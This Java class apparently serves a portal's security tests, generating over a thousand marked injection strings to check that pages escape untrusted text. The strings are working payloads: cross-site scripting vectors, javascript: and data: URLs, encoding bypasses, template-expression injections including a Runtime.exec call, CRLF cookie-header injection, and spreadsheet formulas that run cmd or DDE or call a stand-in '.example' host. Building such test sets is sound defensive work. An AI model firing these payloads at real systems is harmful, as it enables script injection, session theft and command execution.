package org.wheelhouse.outside;

import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;

/**
 * Texts that would do something where they are not shown as text, made from the known classes of attack: elements and their handlers, ways
 * out of attributes, addresses that run, ways out of scripts and of other elements, expressions of templates, encodings, SVG, styles, JSON,
 * cells that compute. Each carries {@value #MARK}, so that a page that lets it through shows the mark where no text of ours can be.
 */
final class HostileText {

    /** In every text, and in nothing else that the portal shows. */
    static final String MARK = "xq7k";

    /** What an expression comes to when somebody evaluates it; no page has this number by itself. */
    static final String EVALUATED = "4904907";

    /** How many there are at least. */
    static final int ENOUGH = 1000;

    private static final String RUN = MARK + "()";
    private static final String PRODUCT = "7007*700+7";
    private static final List<String> TAGS = List.of(
            "img src=x",
            "svg",
            "body",
            "iframe",
            "video src=x",
            "audio src=x",
            "details open",
            "input autofocus",
            "select autofocus",
            "textarea autofocus",
            "marquee",
            "object data=x",
            "embed src=x",
            "math",
            "a href=#",
            "button",
            "form",
            "style",
            "link rel=stylesheet href=x",
            "x tabindex=1",
            "template",
            "dialog open",
            "video><source");
    private static final List<String> HANDLERS = List.of(
            "onerror",
            "onload",
            "onclick",
            "onfocus",
            "ontoggle",
            "onmouseover",
            "onpointerenter",
            "onanimationstart",
            "OnErRoR",
            "onbeforeinput",
            "onwheel",
            "onpaste",
            "onauxclick",
            "onfocusin");
    private static final List<String> SPACES = List.of(" ", "\t", "\n", "/", "\f");
    private static final List<String> ELEMENTS = List.of(
            "script",
            "title",
            "textarea",
            "style",
            "noscript",
            "select",
            "iframe",
            "xmp",
            "template",
            "svg",
            "math",
            "td",
            "p");
    private static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"http://" + MARK + ".example\",\"x\")",
            "=1+1+" + MARK,
            "+" + MARK,
            "-1+" + MARK,
            "@SUM(1+1)*" + MARK,
            "\t=" + MARK,
            "=cmd|'/c calc'!" + MARK,
            "=DDE(\"cmd\",\"/c\",\"" + MARK + "\")",
            "=IMPORTXML(\"http://" + MARK + ".example\",\"//a\")",
            "=WEBSERVICE(\"http://" + MARK + ".example\")",
            "'=" + MARK,
            "''+" + MARK,
            "=\"<svg onload=" + RUN + ">\"",
            "＝" + MARK,
            "＠SUM(" + MARK + ")",
            "\n=" + MARK,
            "=" + MARK + "\",=1+1,\"",
            "@" + MARK + "\n=1+1");

    private HostileText() {}

    /** All of them, the same at every run, mixed so that any beginning of the list has some of every class. */
    static List<String> all() {
        Set<String> all = new LinkedHashSet<>(FORMULAS);
        elements(all);
        attributes(all);
        addresses(all);
        waysOut(all);
        expressions(all);
        encodings(all);
        styles(all);
        scripts(all);
        var mixed = new ArrayList<>(all);
        Collections.shuffle(mixed, new Random(7));
        return List.copyOf(mixed);
    }

    /** As many of them as {@code faults.strings} says. */
    static List<String> sample() {
        List<String> all = all();
        return all.subList(0, Math.min(all.size(), Integer.getInteger("faults.strings", 60)));
    }

    private static void elements(Set<String> all) {
        for (String tag : TAGS) {
            for (String handler : HANDLERS) {
                all.add("<" + tag + " " + handler + "=" + RUN + ">");
            }
            all.add("<" + tag + " onerror=\"" + RUN + "\" onload='" + RUN + "'>");
            all.add("<" + tag.toUpperCase(java.util.Locale.ROOT) + "/ONLOAD=" + RUN + "//");
            all.add("<<" + tag + " onload=" + RUN + "<");
        }
        all.add("<script>" + RUN + "</script>");
        all.add("<ScRiPt>" + RUN + "</sCrIpT>");
        all.add("<script/src=//" + MARK + ".example></script>");
        all.add("<script src=data:," + RUN + "></script>");
        all.add("<scr<script>ipt>" + RUN + "</scr</script>ipt>");
        all.add("<base href=//" + MARK + ".example>");
        all.add("<meta http-equiv=refresh content=0;url=javascript:" + RUN + ">");
        all.add("<iframe srcdoc='<script>" + RUN + "</script>'>");
        all.add("<form action=//" + MARK + ".example><input name=password>");
        all.add("<?xml-stylesheet href='javascript:" + RUN + "'?><" + MARK + ">");
        all.add("<" + MARK + " " + MARK + "=1>");
    }

    private static void attributes(Set<String> all) {
        for (String quote : List.of("\"", "'", "`", "", "\\\"", "&quot;", "&#39;", "\"'", "\u2019\"")) {
            for (String space : SPACES) {
                all.add(MARK + quote + space + "onfocus=" + RUN + space + "autofocus=" + quote);
                all.add(quote + space + "onmouseover" + space.strip() + "=" + quote + RUN);
            }
            all.add(quote + "><svg/onload=" + RUN + ">");
            all.add(quote + "/><img src=x onerror=" + RUN + ">");
            all.add(quote + " style=" + quote + "background:url(javascript:" + RUN + ")");
            all.add(quote + " " + MARK + "=" + quote);
        }
    }

    private static void addresses(Set<String> all) {
        for (String address : List.of(
                "javascript:" + RUN,
                "JaVaScRiPt:" + RUN,
                "java\tscript:" + RUN,
                "java\nscript:" + RUN,
                " javascript:" + RUN,
                "\u0001javascript:" + RUN,
                "javascript&colon;" + RUN,
                "javascript&#58;" + RUN,
                "&#106;avascript:" + RUN,
                "javascript://%0a" + RUN,
                "vbscript:" + RUN,
                "data:text/html,<script>" + RUN + "</script>",
                "data:text/html;base64,PHNjcmlwdD4" + MARK,
                "data:image/svg+xml,<svg onload=" + RUN + ">",
                "//" + MARK + ".example/",
                "\\\\" + MARK + ".example\\",
                "https:" + MARK + ".example",
                "feed:javascript:" + RUN,
                "view-source:" + MARK)) {
            all.add(address);
            all.add("<a href=\"" + address + "\">x</a>");
            all.add("<iframe src='" + address + "'>");
            all.add("[x](" + address + ")");
            all.add("\" href=\"" + address);
        }
    }

    private static void waysOut(Set<String> all) {
        for (String element : ELEMENTS) {
            all.add("</" + element + "><img src=x onerror=" + RUN + ">");
            all.add("</" + element + " ><script>" + RUN + "</script>");
            all.add("<" + element + "><p title=\"</" + element + "><img src=x onerror=" + RUN + ">\">");
            all.add("<!--<" + element + "-->" + MARK + "<" + element + ">");
            all.add("<svg><" + element + "><img/src=x onerror=" + RUN + ">");
            all.add("<math><mtext><" + element + "><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror="
                    + RUN + "&gt;\">");
            all.add("]]></" + element + "><svg onload=" + RUN + ">");
        }
        for (String comment : List.of("-->", "--!>", "<!-->", "]]>", "<![CDATA[", "*/", "?>", "%>")) {
            all.add(comment + "<svg/onload=" + RUN + ">");
            all.add(comment + "<script>" + RUN + "</script>" + comment);
        }
        all.add("<svg><animate attributeName=href values=javascript:" + RUN + " /></svg>");
        all.add("<svg><use href=\"data:image/svg+xml,<svg id='x' onload='" + RUN + "'/>#x\"></use></svg>");
        all.add("<svg><foreignObject><body onload=" + RUN + "></foreignObject></svg>");
        all.add("<svg><set attributeName=onmouseover to=" + RUN + "></svg>");
        all.add("<svg><script>" + RUN + "</script></svg>");
    }

    private static void expressions(Set<String> all) {
        for (String inner : List.of(
                PRODUCT,
                "'" + MARK + "'.length()*0+" + PRODUCT,
                "request.session." + MARK,
                "facesContext.externalContext." + MARK,
                "''.getClass().forName('" + MARK + "')",
                "T(java.lang.Runtime).getRuntime().exec('" + MARK + "')",
                "cc.attrs." + MARK,
                "text['" + MARK + "']")) {
            for (String[] around : new String[][] {
                {"#{", "}"},
                {"${", "}"},
                {"\\#{", "}"},
                {"#{#{", "}}"},
                {"{{", "}}"},
                {"<%=", "%>"},
                {"[[${", "}]]"},
                {"*{", "}"},
                {"%{", "}"},
                {"@{", "}"},
                {"{0}", "{1}"},
                {"{", "}"}
            }) {
                all.add(MARK + around[0] + inner + around[1]);
            }
        }
        all.add(MARK + "{0,number,#}{9}'{");
        all.add(MARK + "%s%n%x%1$s");
        all.add(MARK + "$1\\1$&$`");
    }

    private static void encodings(Set<String> all) {
        for (String plain : List.of(
                "<script>" + RUN + "</script>", "<img src=x onerror=" + RUN + ">", "\"><svg onload=" + RUN + ">")) {
            all.add(plain.replace("<", "%3C").replace(">", "%3E").replace("\"", "%22"));
            all.add(plain.replace("<", "%253C").replace(">", "%253E"));
            all.add(plain.replace("<", "&lt;").replace(">", "&gt;"));
            all.add(plain.replace("<", "&amp;lt;").replace(">", "&amp;gt;"));
            all.add(plain.replace("<", "&#60;").replace(">", "&#62;"));
            all.add(plain.replace("<", "&#x3c").replace(">", "&#x3e"));
            all.add(plain.replace("<", "&#0000060").replace(">", "&#0000062"));
            all.add(plain.replace("<", "\\u003c").replace(">", "\\u003e"));
            all.add(plain.replace("<", "\\x3c").replace(">", "\\x3e"));
            all.add(plain.replace("<", "\\74").replace(">", "\\76"));
            all.add(plain.replace("<", "+ADw-").replace(">", "+AD4-"));
            all.add(plain.replace('<', '＜').replace('>', '＞'));
            all.add(plain.replace('<', '‹').replace('>', '›'));
            all.add(plain.replace('<', '\u02c2').replace('>', '\u02c3'));
            all.add("\u2028" + plain + "\u2029");
            all.add("\u202e" + plain);
            all.add("\ufeff" + plain);
            all.add("\u200b" + plain.replace("script", "scr\u200bipt"));
            all.add("中" + plain + "🚗");
            all.add(plain.replace("s", "ſ"));
            all.add("&lt" + plain);
            all.add("&" + plain + ";");
            all.add("_x003C_" + plain + "_x003E_");
        }
    }

    private static void styles(Set<String> all) {
        for (String css : List.of(
                "expression(" + RUN + ")",
                "url(javascript:" + RUN + ")",
                "url(//" + MARK + ".example)",
                "@import '//" + MARK + ".example'",
                "-moz-binding:url(" + MARK + ")",
                "behavior:url(" + MARK + ")",
                "\\65xpression(" + RUN + ")")) {
            all.add("<style>*{x:" + css + "}</style>");
            all.add("</style><style>*{x:" + css + "}");
            all.add("<p style=\"x:" + css + "\">");
            all.add("red;x:" + css);
            all.add("}*{x:" + css + "}" + MARK);
            all.add("\" style=\"x:" + css);
        }
    }

    private static void scripts(Set<String> all) {
        for (String quote : List.of("\"", "'", "`", "\\\"", "\\'", "\\\\\"")) {
            for (String end : List.of(
                    "-" + RUN + "-",
                    ";" + RUN + "//",
                    "});" + RUN + ";({",
                    "};" + RUN + ";//",
                    "+" + RUN + "+",
                    "]}" + RUN)) {
                all.add(quote + end + quote);
            }
            all.add(quote + ",\"" + MARK + "\":" + quote);
            all.add(quote + "}</script><script>" + RUN + "</script>");
        }
        all.add("${" + RUN + "}`" + MARK);
        all.add("\r\nSet-Cookie: " + MARK + "=1\r\n\r\n<script>" + RUN + "</script>");
        all.add("<!--<script>" + MARK);
        all.add("</ScRiPt\t><img src=x onerror=" + RUN + ">");
        all.add("\\u003c/script>" + MARK);
    }

    /** One that a spreadsheet program computes, in turn. */
    static String formula(int number) {
        return FORMULAS.get(number % FORMULAS.size());
    }

    /** Whether a spreadsheet program would compute a cell that begins so. */
    static boolean isFormula(String cell) {
        return !cell.isEmpty() && "=+-@\t\r\n＝＋－＠".indexOf(cell.charAt(0)) >= 0;
    }
}
